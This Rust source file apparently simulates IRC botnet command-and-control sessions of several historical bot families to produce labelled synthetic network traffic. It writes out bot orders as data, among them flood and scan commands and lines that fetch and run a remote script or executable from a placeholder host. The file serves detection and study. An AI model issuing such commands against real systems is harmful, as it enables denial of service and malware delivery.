//! Bots, by the dialects of their families.

use wiretale_packet::{Address, Endpoint};

use super::everyday::{browse, download};
use super::intrusion::scan;
use super::irc::{Irc, Me, Place};
use super::story::{SERVERS, STRANGERS, Story, abroad, secs};

/// How a family speaks.
struct Dialect {
    me: Me,
    port: u16,
    channel: &'static str,
    key: &'static str,
    herder: &'static str,
    topic: Option<&'static str>,
    /// Orders in the channel, and what the bot answers there.
    orders: &'static [(&'static str, &'static str)],
    /// Answers are notices to the herder.
    notices: bool,
    act: Act,
}

/// What the last order makes the bot do.
#[derive(Clone, Copy)]
enum Act {
    Scan(u16),
    Hit(u16),
    Fetch(&'static str),
}

/// GTBot: mIRC with scripts.
pub(super) fn gtbot(story: &mut Story) {
    let nick = numbered(story, "pepper");
    let orders = &[
        ("!ver", "GTbot v3.1 by sony, mIRC32 v5.91"),
        ("!info", "IP: 10.20.3.20 Uptime: 2days 3hrs OS: Windows XP"),
        ("!portscan 203.0.113.77 1 1024", "Port scan of 203.0.113.77 from 1 to 1024 started"),
        ("!scan 198.18.x.x 1433", "Scanning 198.18.*.* for port 1433"),
    ];
    let act = Act::Scan(1433);
    let me = Me::new(nick.clone(), nick, "mIRC user");
    one(
        story,
        Dialect {
            me,
            port: 6667,
            channel: "#gt-home",
            key: "",
            herder: "sony",
            topic: None,
            orders,
            notices: false,
            act,
        },
    );
}

/// SDBot, Rbot and their kin.
pub(super) fn rbot(story: &mut Story) {
    let country = story.pick(&["DEU", "USA", "GBR", "FRA"]);
    let nick = format!("[00|{country}|{}]", story.random.between(100_000, 999_999));
    let user = letters(story, b"bcdfghjklmnpqrstvwxz", 6);
    let orders = &[
        (".login sn0wc4t", "[MAIN]: Password accepted."),
        (".sysinfo", "[SYSINFO]: [CPU]: 2992MHz. [RAM]: 523,760KB total. [OS]: Windows XP (Service Pack 1)."),
        (
            ".advscan lsass 100 5 0 -b -r",
            "[SCAN]: Random Port Scan started on 198.18.x.x:445 with a delay of 5 seconds",
        ),
    ];
    let (topic, act) = (Some(".advscan dcom135 100 5 0 -b -r -s"), Act::Scan(445));
    let me = Me::new(nick, user.clone(), user);
    one(
        story,
        Dialect { me, port: 5190, channel: "#.x0r.", key: "k3y", herder: "h3rd3r", topic, orders, notices: false, act },
    );
}

/// Agobot, Phatbot, Gaobot.
pub(super) fn agobot(story: &mut Story) {
    let nick = format!("phat-{}", letters(story, b"bcdfghjklmnpqrstvwxz", 7));
    let orders = &[
        (".bot.about", "Phatbot3 (0.1 Alpha) \"Release\" on \"Win32\""),
        (".bot.status", "Phatbot3 ready. Up 1d 4h 12m."),
        ("cvar.set scan_maxthreads 80", "scan_maxthreads set to 80"),
        (".ddos.synflood 203.0.113.200 30 80 5", "flooding: 203.0.113.200:80 for 30 seconds"),
        (".scan.start 198.18.0.0/16 135", "[SCAN]: scanning 198.18.0.0/16, port 135"),
    ];
    let me = Me::new(nick.clone(), nick.clone(), nick);
    let act = Act::Scan(135);
    one(
        story,
        Dialect {
            me,
            port: 8998,
            channel: "#phat",
            key: "wonk",
            herder: "ago",
            topic: None,
            orders,
            notices: false,
            act,
        },
    );
}

/// Spybot: orders without a mark.
pub(super) fn spybot(story: &mut Story) {
    let nick = format!("spy{}", letters(story, b"bcdfghjklmnpqrstvwxz", 6));
    let orders = &[
        ("!login hunter7", "password accepted"),
        ("!loadclones 203.0.113.77 6667 20", "loading clones to: 203.0.113.77 port: 6667 amount: 20"),
        ("!syn 203.0.113.200 80 50 1000", "flooding: 203.0.113.200 port: 80 delay: 50 times: 1000"),
        ("!scan 198.18.0.1 445 100", "Portscanner startip: 198.18.0.1 port: 445 delay: 100ms started"),
    ];
    let me = Me::new(nick.clone(), nick.clone(), nick);
    let act = Act::Scan(445);
    one(
        story,
        Dialect { me, port: 7001, channel: "#spyb", key: "", herder: "mich", topic: None, orders, notices: false, act },
    );
}

/// pBot (PHP) and ShellBot (Perl), on web servers.
pub(super) fn pbot(story: &mut Story) {
    let nick = format!("[A]Linux{}", story.random.between(10_000, 99_999));
    let orders = &[
        (".user hunter7", "[Auth]: authed, welcome"),
        (".exec uname -a", "Linux www 2.6.18-8.el5 #1 SMP i686 GNU/Linux"),
        ("@portscan 198.18.0.7", "[PORTSCAN]: scanning 198.18.0.7"),
        (".udpflood 203.0.113.200 64 30", "[UdpFlood Started!] packets to: 203.0.113.200"),
    ];
    let me = Me::new(nick, "Linux2.6.18-8.el5", "Linux www 2.6.18-8.el5 i686");
    let act = Act::Hit(80);
    one(
        story,
        Dialect { me, port: 8080, channel: "#php", key: "", herder: "sky", topic: None, orders, notices: false, act },
    );
}

/// Kaiten, Tsunami and their kin: orders to a mask, answers as notices.
pub(super) fn kaiten(story: &mut Story) {
    let nick = letters(story, b"BCDFGHJKLMNPQRSTVWXZ", 7);
    let user = letters(story, b"BCDFGHJKLMNPQRSTVWXZ", 6);
    let orders = &[
        ("!* VERSION", "Kaiten wa goraku"),
        ("!* SH wget http://198.51.100.140/a.sh", "sh: started"),
        ("!* PAN 203.0.113.200 80 60", "Panning 203.0.113.200."),
        ("!* UDP 203.0.113.200 80 60", "Packeting 203.0.113.200."),
    ];
    let me = Me::new(nick, user.clone(), user);
    let act = Act::Hit(80);
    one(
        story,
        Dialect { me, port: 443, channel: "#mipsel", key: "", herder: "ktn", topic: None, orders, notices: true, act },
    );
}

/// ngrBot: a fixed server password, and a program to fetch.
pub(super) fn ngrbot(story: &mut Story) {
    let nick = format!("n{{DE|XP-32a}}{}", letters(story, b"bcdfghjklmnpqrstvwxz", 7));
    let user = letters(story, b"bcdfghjklmnpqrstvwxz", 7);
    let orders = &[
        ("~v", "[v=\"1.1.0.0\"] ngrBot"),
        (
            "~dl http://198.51.100.140/upd.exe 1",
            "[d=\"http://198.51.100.140/upd.exe\" s=\"20028 bytes\"] Updated bot file",
        ),
    ];
    let me = Me { password: Some("ngrBot"), ..Me::new(nick, user.clone(), user) };
    let (topic, act) = (Some("~dl http://198.51.100.140/upd.exe 1"), Act::Fetch("/upd.exe"));
    one(
        story,
        Dialect { me, port: 1863, channel: "#boss", key: "ngr", herder: "boss", topic, orders, notices: false, act },
    );
}

/// Five home hosts in one channel that answer alike, in names like people's, and fetch what they are told to.
pub(super) fn crowd(story: &mut Story) {
    let nicks = ["anna", "berta", "clara", "doris", "emily"];
    let command = Place::new(abroad(SERVERS, 67), 6667, "irc.example.biz", "PrivNet");
    let rounds = 8;
    let first = 60.0;
    for (n, nick) in nicks.into_iter().enumerate() {
        let host = story.home(40 + n as u8);
        let at = 5.0 + n as f64 * 4.0;
        story.truth(at, (host, Some(command.end.address)), 4, &["D16"], "a bot comes to its channel");
        let mut random = story.fork();
        let talk = story.tcp(at, host, command.end);
        let mut irc = Irc::register(talk, Me::new(nick, nick, nick), command);
        irc.join("#summer", "", "@warden", None);
        for round in 0..rounds {
            irc.until(first + f64::from(round) * 40.0);
            let asked = [".status", ".uptime", ".version"][round as usize % 3];
            irc.hears("warden", "#summer", asked);
            irc.pause(0.3 + random.between(0, 900) as f64 / 1000.0);
            irc.says("#summer", &format!("[MAIN]: uptime {}d {}h, build 1.{}", 3 + n, round, 40 + round / 3));
            for other in nicks.iter().filter(|other| **other != nick) {
                irc.pause(0.05);
                irc.hears(other, "#summer", &format!("[MAIN]: uptime 4d {round}h, build 1.{}", 40 + round / 3));
            }
        }
        irc.until(first + f64::from(rounds) * 40.0);
        irc.hears("warden", "#summer", ".download http://198.51.100.140/upd.exe c:\\upd.exe 1");
        let ordered = irc.now();
        irc.pause(4.0);
        irc.says("#summer", "[DOWNLOAD]: Downloading URL: http://198.51.100.140/upd.exe");
        irc.idle_until(1200.0);
        irc.quit();
        story.truth(first, (host, Some(command.end.address)), 4, &["D20", "D19"], "it answers as the others do");
        story.truth(ordered, (host, Some(command.end.address)), 4, &["D18"], "an order to fetch a program");
        download(story, ordered + 1.5, host, abroad(STRANGERS, 140), "/upd.exe");
        story.truth(
            ordered + 1.5,
            (host, Some(abroad(STRANGERS, 140))),
            3,
            &["D31", "D29", "D19"],
            "the program is fetched",
        );
    }
}

// One bot on one host: it comes, is given orders, answers, and does the last one.
fn one(story: &mut Story, dialect: Dialect) {
    let host = story.home(20);
    browse(story, 1.0, host, 3);
    let command = Place::new(abroad(SERVERS, 66), dialect.port, "irc.example.ru", "BotNet");
    let peer = Some(command.end.address);
    let at = 40.0;
    let mut random = story.fork();
    let talk = story.tcp(at, host, command.end);
    let topic = dialect.topic.map(|topic| (topic, dialect.herder));
    let mut irc = Irc::register(talk, dialect.me, command);
    let names = format!("@{} {}x {}y", dialect.herder, dialect.channel.trim_start_matches('#'), dialect.herder);
    irc.join(dialect.channel, dialect.key, &names, topic);
    let joined = irc.now();
    let mut next = joined + 20.0;
    let mut last = joined;
    for (order, answer) in dialect.orders {
        irc.idle_until(next);
        irc.hears(dialect.herder, dialect.channel, order);
        last = irc.now();
        irc.pause(0.2 + random.between(0, 800) as f64 / 1000.0);
        if dialect.notices {
            irc.raw(&format!("NOTICE {} :{answer}", dialect.herder));
        } else {
            irc.says(dialect.channel, answer);
        }
        next += 60.0 + random.between(0, 60) as f64;
    }
    irc.idle_until(last + 900.0);
    irc.quit();
    story.truth(at, (host, peer), 4, &["D15", "D16"], "a bot comes to its channel");
    story.truth(last, (host, peer), 4, &["D18", "D19"], "it is given orders");
    let begins = last + 2.5;
    match dialect.act {
        Act::Scan(port) => {
            scan(story, begins, host, port, 48);
            story.truth(begins, (host, None), 5, &["D32", "D19"], "it scans");
        }
        Act::Hit(port) => {
            hit(story, begins, host, Endpoint::new(abroad(SERVERS, 200), port));
            story.truth(begins, (host, Some(abroad(SERVERS, 200))), 5, &["D33", "D27", "D32", "D19"], "it floods");
        }
        Act::Fetch(path) => {
            download(story, begins, host, abroad(STRANGERS, 140), path);
            let told_by = &["D31", "D29", "D19"];
            story.truth(begins, (host, Some(abroad(STRANGERS, 140))), 3, told_by, "it fetches a program");
        }
    }
}

// SYNs to one target from ever new ports, and datagrams, none answered.
fn hit(story: &mut Story, at: f64, host: Address, target: Endpoint) {
    for n in 0..300 {
        story.attempt(at + f64::from(n) * 0.01, host, target, false);
    }
    let (from, payload) = (Endpoint::new(host, 40_000), story.fork().bytes(64));
    for n in 0..5600u64 {
        let at = super::story::time(at + 3.0) + secs(n as f64 * 0.001);
        story.wire.udp(at, from, target, &payload);
    }
}

fn numbered(story: &mut Story, word: &str) -> String {
    format!("{word}{}", story.random.between(1000, 9999))
}

fn letters(story: &mut Story, from: &[u8], count: usize) -> String {
    (0..count).map(|_| char::from(story.pick(from))).collect()
}
